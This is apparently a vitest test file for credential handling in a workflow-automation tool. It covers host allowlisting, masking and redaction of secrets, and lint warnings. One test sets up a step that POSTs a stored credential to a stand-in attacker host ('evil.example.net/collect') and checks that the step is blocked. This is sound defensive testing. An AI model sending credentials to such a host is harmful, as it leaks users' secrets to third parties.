import { describe, expect, it } from 'vitest';
import { httpRequest } from './nodes/http-request/handler';
import { sendMessage } from './nodes/send-message/handler';
import { CredentialHostError, hostAllowed, maskUrlParams, redactValues, secretRefs } from './secrets';
import { makeContext } from './testing/context';
import type { CredentialVault, HttpRequest } from './types';
import { validateFlow } from './validate';

/** A vault over fixed values, as the server's is over sealed rows. */
function vault(values: Record<string, { value: string; hosts: string[] }>): CredentialVault {
  const used = new Set<string>();
  return {
    async scope() {
      const secrets = {};
      for (const [name, c] of Object.entries(values)) {
        Object.defineProperty(secrets, name, { enumerable: true, get: () => (used.add(name), c.value) });
      }
      return secrets;
    },
    release(url) {
      const host = new URL(url).hostname;
      const names = [...used];
      used.clear();
      for (const name of names) if (!hostAllowed(values[name]!.hosts, host)) throw new CredentialHostError(name, values[name]!.hosts);
    },
    redact: (v) =>
      redactValues(
        v,
        Object.values(values).map((c) => c.value),
      ),
  };
}

describe('credential helpers', () => {
  it('matches hosts exactly or under a wildcard domain', () => {
    expect(hostAllowed(['shop.example.com'], 'SHOP.example.com.')).toBe(true);
    expect(hostAllowed(['shop.example.com'], 'evil-shop.example.com')).toBe(false);
    expect(hostAllowed(['*.example.com'], 'eu.shop.example.com')).toBe(true);
    expect(hostAllowed(['*.example.com'], 'example.com')).toBe(false);
    expect(hostAllowed(['*.example.com'], 'example.com.evil.net')).toBe(false);
    expect(hostAllowed(['*.example.com'], 'notexample.com')).toBe(false);
  });

  it('masks credential-like query parameters only', () => {
    expect(maskUrlParams('https://a.example/x?q=cake&api_key=abc&access_token=t0k#top')).toBe(
      'https://a.example/x?q=cake&api_key=[secret]&access_token=[secret]#top',
    );
    expect(maskUrlParams('https://a.example/x?q=cake')).toBe('https://a.example/x?q=cake');
  });

  it('redacts values deep inside results, longest first', () => {
    expect(redactValues({ a: ['Bearer abcd1234', { b: 'x abcd1234abcd y' }], n: 3 }, ['abcd1234', 'abcd1234abcd'])).toEqual({
      a: ['Bearer [secret]', { b: 'x [secret] y' }],
      n: 3,
    });
  });

  it('finds the credentials a template reads', () => {
    expect(secretRefs("Bearer {{ secrets.shop }} {{ secrets['crm_2'] }} {{ vars.secrets }}")).toEqual(['shop', 'crm_2']);
  });
});

describe('secrets in steps', () => {
  it('renders a credential into an HTTP request for its host, and masks it in the result', async () => {
    const sent: HttpRequest[] = [];
    const http = async (req: HttpRequest) => (
      sent.push(req), { status: 200, headers: {}, body: `{"echo":"${req.headers?.authorization}"}` }
    );
    const ctx = makeContext({ services: { http, credentials: vault({ shop: { value: 'tok-123456', hosts: ['shop.example.com'] } }) } });
    const result = await httpRequest(
      {
        method: 'GET',
        url: 'https://shop.example.com/o?key={{ secrets.shop }}',
        headers: { authorization: 'Bearer {{ secrets.shop }}' },
        saveTo: 'r',
      },
      ctx,
    );
    expect(sent[0]).toMatchObject({ url: 'https://shop.example.com/o?key=tok-123456', headers: { authorization: 'Bearer tok-123456' } });
    expect(result.vars?.r).toMatchObject({ body: { echo: 'Bearer [secret]' } });
    expect(result.log).toBe('GET shop.example.com -> 200');
  });

  it('stops before calling a host the credential was not saved for', async () => {
    const sent: HttpRequest[] = [];
    const http = async (req: HttpRequest) => (sent.push(req), { status: 200, headers: {}, body: '' });
    const ctx = makeContext({
      vars: { where: 'evil.example.net' },
      services: { http, credentials: vault({ shop: { value: 'tok-123456', hosts: ['shop.example.com'] } }) },
    });
    const result = await httpRequest({ method: 'POST', url: 'https://{{ vars.where }}/collect', body: '{{ secrets.shop }}' }, ctx);
    expect(result.error).toEqual({ field: 'url', message: "The credential 'shop' may only be sent to shop.example.com" });
    expect(sent).toEqual([]);
  });

  it('stops when a step reads a credential the workspace does not have', async () => {
    const sent: HttpRequest[] = [];
    const http = async (req: HttpRequest) => (sent.push(req), { status: 200, headers: {}, body: '' });
    const ctx = makeContext({ services: { http, credentials: vault({ shop: { value: 'tok-123456', hosts: ['shop.example.com'] } }) } });
    const result = await httpRequest(
      { method: 'GET', url: 'https://shop.example.com/', headers: { authorization: 'Bearer {{ secrets.shopify }}' } },
      ctx,
    );
    expect(result.error).toEqual({
      field: 'headers.authorization',
      message: 'Add the credential "shopify" in Settings → Credentials: this step reads {{ secrets.shopify }}.',
    });
    expect(sent).toEqual([]);
  });

  it('leaves secrets empty in text the customer reads, and lint says so', async () => {
    const ctx = makeContext({ services: { credentials: vault({ shop: { value: 'tok-123456', hosts: ['shop.example.com'] } }) } });
    const result = await sendMessage({ text: 'Your key: {{ secrets.shop }}.' }, ctx);
    expect(result.effects).toEqual([expect.objectContaining({ type: 'send_message', text: 'Your key: .' })]);
    const { warnings } = validateFlow({
      schemaVersion: 1,
      nodes: [
        { id: 't', type: 'trigger.message_received', position: { x: 0, y: 0 }, config: {} },
        { id: 's', type: 'action.send_message', position: { x: 0, y: 1 }, config: { text: 'Key {{ secrets.shop }}' } },
        {
          id: 'h',
          type: 'action.http_request',
          position: { x: 0, y: 2 },
          config: { method: 'GET', url: 'https://a.example/?k={{ secrets.shop }}' },
        },
      ],
      edges: [
        { id: 'e1', source: 't', target: 's' },
        { id: 'e2', source: 's', target: 'h' },
      ],
    });
    expect(warnings.filter((w) => w.code === 'secret_not_available')).toEqual([expect.objectContaining({ nodeId: 's', field: 'text' })]);
  });
});
